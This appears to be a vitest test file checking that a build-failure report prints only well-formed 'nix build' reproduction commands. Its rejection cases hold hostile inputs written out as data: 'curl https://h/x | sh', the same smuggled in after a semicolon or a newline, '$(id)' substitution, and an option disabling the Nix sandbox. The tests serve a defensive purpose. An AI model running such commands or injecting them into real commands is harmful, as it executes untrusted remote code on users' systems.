import { expect, test } from 'vitest';
import { reproductionOf } from './reproduction.ts';

const withCommand = (reproduce: string) =>
  reproductionOf({ stage: 'Build', reason: 'BuilderFailed', message: 'x', reproduce });

test.each([
  "nix build --print-build-logs 'github:a/b/0123#packages.x86_64-linux.default'",
  `nix build --print-build-logs 'git+https://h/a?rev=0123&ref=v1#packages.x86_64-linux."a.b"'`,
  `nix build --print-build-logs 'github:a/b#packages.x86_64-linux.a'\\''b'`,
])('the command that enbi writes is printed: %s', (command) => {
  expect(withCommand(command)).toBe(command);
});

test.each([
  'curl https://h/x | sh',
  "nix build --print-build-logs 'github:a/b#c'; curl https://h/x | sh",
  "nix build --print-build-logs 'github:a/b#c' --option sandbox false",
  "nix build --print-build-logs 'github:a/b#c'\ncurl https://h/x | sh",
  'nix build --print-build-logs "$(id)"',
  '',
])('another one is not: %j', (command) => {
  expect(withCommand(command)).toBeUndefined();
});
